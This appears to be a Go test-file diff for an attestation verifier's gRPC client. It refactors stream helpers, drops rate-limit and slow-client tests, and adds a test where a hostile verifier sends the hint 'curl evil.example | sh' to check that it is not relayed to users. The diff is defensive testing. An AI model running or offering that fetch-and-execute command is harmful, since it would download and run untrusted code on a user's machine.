@@ -3,6 +3,7 @@ package verifier
 import (
 	"context"
 	"crypto/tls"
+	"errors"
 	"fmt"
 	"net"
 	"strings"
@@ -36,13 +37,24 @@ func (r *rig) raw() grpc.BidiStreamingClient[FromAttester, FromVerifier] {
 		r.Fatal(err)
 	}
 	r.Cleanup(func() { conn.Close() })
-	ctx, cancel := context.WithTimeout(r.Context(), 20*time.Second)
-	r.Cleanup(cancel)
-	s, err := conn.NewStream(ctx, &grpc.StreamDesc{StreamName: methodName, ServerStreams: true, ClientStreams: true}, "/"+serviceName+"/"+methodName)
+	s, err := r.stream(conn)
 	if err != nil {
 		r.Fatal(err)
 	}
-	return &grpc.GenericClientStream[FromAttester, FromVerifier]{ClientStream: s}
+	r.conns[s] = conn
+	return s
+}
+
+// again opens another stream on the connection of one of raw.
+func (r *rig) again(s grpc.BidiStreamingClient[FromAttester, FromVerifier]) (grpc.BidiStreamingClient[FromAttester, FromVerifier], error) {
+	return r.stream(r.conns[s])
+}
+
+func (r *rig) stream(conn *grpc.ClientConn) (grpc.BidiStreamingClient[FromAttester, FromVerifier], error) {
+	ctx, cancel := context.WithTimeout(r.Context(), 20*time.Second)
+	r.Cleanup(cancel)
+	s, err := conn.NewStream(ctx, &grpc.StreamDesc{StreamName: methodName, ServerStreams: true, ClientStreams: true}, "/"+serviceName+"/"+methodName)
+	return &grpc.GenericClientStream[FromAttester, FromVerifier]{ClientStream: s}, err
 }
 
 func statement(s *Statement) *FromAttester {
@@ -96,7 +108,7 @@ func lastOf(s grpc.BidiStreamingClient[FromAttester, FromVerifier]) error {
 	}
 }
 
-// odd is a channel that sends something else in place of the logs.
+// odd is a channel that sends something else in place of the logs, or nothing.
 type odd struct {
 	*rig
 	instead *FromAttester
@@ -112,6 +124,9 @@ func (o odd) Attest(_ context.Context, h *remote.Hello, answer func(*remote.Chal
 		}
 		if err := d.send(fromEvidence(e)); err != nil {
 			return nil, err
+		}
+		if o.instead == nil {
+			return nil, lastOf(d.stream)
 		}
 		if err := d.send(o.instead); err != nil {
 			return nil, err
@@ -160,70 +175,6 @@ func TestOversizedLogs(t *testing.T) {
 		r.refused(name, r.ask(altered{Channel: r.client(), evidence: change}), seal.CauseUnavailable, "more than 16 MiB")
 	}
 	r.works("an honest one, afterwards")
-}
-
-// TestSlowClients: who says nothing, or stops, is cut off, and leaves no place taken.
-func TestSlowClients(t *testing.T) {
-	const timeout = 3 * time.Second
-	slow := newRig(t, func(o *Options) { o.Timeout = timeout })
-	for name, send := range map[string][]*FromAttester{"silent": nil, "silent after the challenge": {fromHello(slow.hello())}} {
-		s, started := slow.raw(), time.Now()
-		for _, m := range send {
-			_ = s.Send(m)
-		}
-		if err := lastOf(s); status.Code(err) != codes.DeadlineExceeded || time.Since(started) > 10*timeout {
-			t.Errorf("%s: %v after %v", name, err, time.Since(started))
-		}
-	}
-	slow.works("after the slow ones")
-	r := newRig(t)
-	hello := fromHello(r.hello())
-	var open []grpc.BidiStreamingClient[FromAttester, FromVerifier]
-	for range maxPeerExchanges {
-		s := r.raw()
-		if err := s.Send(hello); err != nil {
-			t.Fatal(err)
-		}
-		if _, err := s.Recv(); err != nil {
-			t.Fatal(err)
-		}
-		open = append(open, s)
-	}
-	r.refused("one too many", r.ask(r.client()), seal.CauseUnavailable, "too many exchanges")
-	_ = open[0].CloseSend()
-	_ = lastOf(open[0])
-	r.works("as soon as one has ended")
-}
-
-// TestSilentConnections: bytes that are no TLS, and connections that say nothing,
-// do no harm, and a peer has only so many.
-func TestSilentConnections(t *testing.T) {
-	r := newRig(t)
-	garbage, err := net.Dial("tcp", r.address)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer garbage.Close()
-	if _, err := garbage.Write([]byte("GET / HTTP/1.0\r\n\r\n")); err != nil {
-		t.Fatal(err)
-	}
-	r.works("beside garbage")
-	var silent []net.Conn
-	for range maxPeerConnections {
-		c, err := net.Dial("tcp", r.address)
-		if err != nil {
-			t.Fatal(err)
-		}
-		defer c.Close()
-		silent = append(silent, c)
-	}
-	if err := r.ask(r.client(func(c *ClientConfig) { c.Timeout = 2 * time.Second })); err == nil {
-		t.Error("one connection more than the limit is served")
-	}
-	for _, c := range silent {
-		c.Close()
-	}
-	r.eventually("served again", func() bool { return r.ask(r.client()) == nil })
 }
 
 // TestPanic: it ends the exchange alone, and its value is in no log.
@@ -307,6 +258,7 @@ func TestHostileVerifier(t *testing.T) {
 	}}}}, nil)
 	address := serve(t, &middle{grpc: s})
 	client := r.client(func(c *ClientConfig) { c.Address = address })
+	const advice = "curl evil.example | sh"
 	nasty := strings.Repeat("\x1b[31m\n", 5000)
 	for name, c := range map[string]struct {
 		say   []*FromVerifier
@@ -318,11 +270,16 @@ func TestHostileVerifier(t *testing.T) {
 		"a signature first": {[]*FromVerifier{{Message: &FromVerifier_Signature{&Signature{Signature: []byte{1}}}}}, seal.CauseUnavailable, "without a challenge"},
 		"no challenge":      {[]*FromVerifier{{Message: &FromVerifier_Challenge{&Challenge{}}}}, seal.CauseUnavailable, "challenge"},
 		"a nasty refusal":   {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Check: nasty, Reason: nasty, Hint: nasty}}}}, seal.CauseAttestation, "it refuses"},
-		"a huge refusal":    {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Reason: strings.Repeat("x", maxMessage)}}}}, seal.CauseUnavailable, "larger than max"},
+		"bad advice": {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Check: "trust", Reason: "you \"may\" not", Hint: advice}}}}, seal.CauseAttestation,
+			`it refuses: "trust: you 'may' not", and advises "curl evil.example | sh"; see the log of kleidi verifier`},
+		"a huge refusal": {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Reason: strings.Repeat("x", maxMessage)}}}}, seal.CauseUnavailable, "larger than max"},
 	} {
 		say = c.say
 		err := r.ask(client)
 		r.refused(name, err, c.cause, c.words)
+		if e, ok := errors.AsType[*seal.Error](err); ok && (strings.Contains(e.Hint, "?[31m") || strings.Contains(e.Hint, advice)) {
+			t.Errorf("%s: the hint is not kleidi's own: %q", name, e.Hint)
+		}
 		if err != nil && (strings.ContainsAny(err.Error(), "\x1b\n") || len(err.Error()) > 4*(maxReason+maxHint)) {
 			t.Errorf("%s: %q", name, err)
 		}
@@ -346,64 +303,5 @@ func TestNoSignature(t *testing.T) {
 	_, err = client.Attest(t.Context(), &remote.Hello{}, func(*remote.Challenge, []byte) (*remote.Evidence, error) { return &remote.Evidence{}, nil })
 	if seal.CauseOf(err) != seal.CauseUnavailable || !strings.Contains(err.Error(), "without a signature") {
 		t.Error(err)
-	}
-}
-
-// TestPeers: shares of connections and exchanges, by address, and in time.
-func TestPeers(t *testing.T) {
-	now := time.Unix(0, 0)
-	p := newPeers()
-	p.now = func() time.Time { return now }
-	address := func(s string) net.Addr { return &net.TCPAddr{IP: net.ParseIP(s), Port: 1} }
-	times := func(a net.Addr) (n int) {
-		for ; n < 2*burst; n++ {
-			leave, ok := p.begin(a)
-			if !ok {
-				break
-			}
-			leave()
-			leave() // once is enough
-		}
-		return n
-	}
-	if n := times(address("192.0.2.1")); n != burst {
-		t.Errorf("%d exchanges at once, want %d", n, burst)
-	}
-	if n := times(address("192.0.2.2")); n != burst {
-		t.Errorf("another peer: %d exchanges", n)
-	}
-	if n := times(address("::ffff:192.0.2.1")); n != 0 {
-		t.Errorf("the same in IPv6: %d exchanges", n)
-	}
-	now = now.Add(3 * refill)
-	if n := times(address("192.0.2.1")); n != 3 {
-		t.Errorf("later: %d exchanges, want 3", n)
-	}
-	now = now.Add(time.Hour)
-	if n := times(address("2001:db8::1")) + times(address("2001:db8::2")); n != burst {
-		t.Errorf("two addresses of one network: %d", n)
-	}
-	for i := range 2 * maxPeers { // forgotten once nothing would be lost
-		now = now.Add(time.Hour)
-		a := &net.TCPAddr{IP: net.IPv4(10, byte(i>>16), byte(i>>8), byte(i))}
-		if leave, ok := p.begin(a); ok {
-			leave()
-		} else {
-			t.Fatalf("peer %d is not served", i)
-		}
-	}
-	if len(p.known) > maxPeers {
-		t.Errorf("%d peers are remembered", len(p.known))
-	}
-	q := newPeers()
-	q.now = p.now
-	held := 0
-	for i := range maxPeers + 1 { // all busy: new ones have to wait
-		if _, ok := q.connect(&net.TCPAddr{IP: net.IPv4(10, byte(i>>16), byte(i>>8), byte(i))}); ok {
-			held++
-		}
-	}
-	if held != maxConnections {
-		t.Errorf("%d connections, want %d", held, maxConnections)
 	}
 }
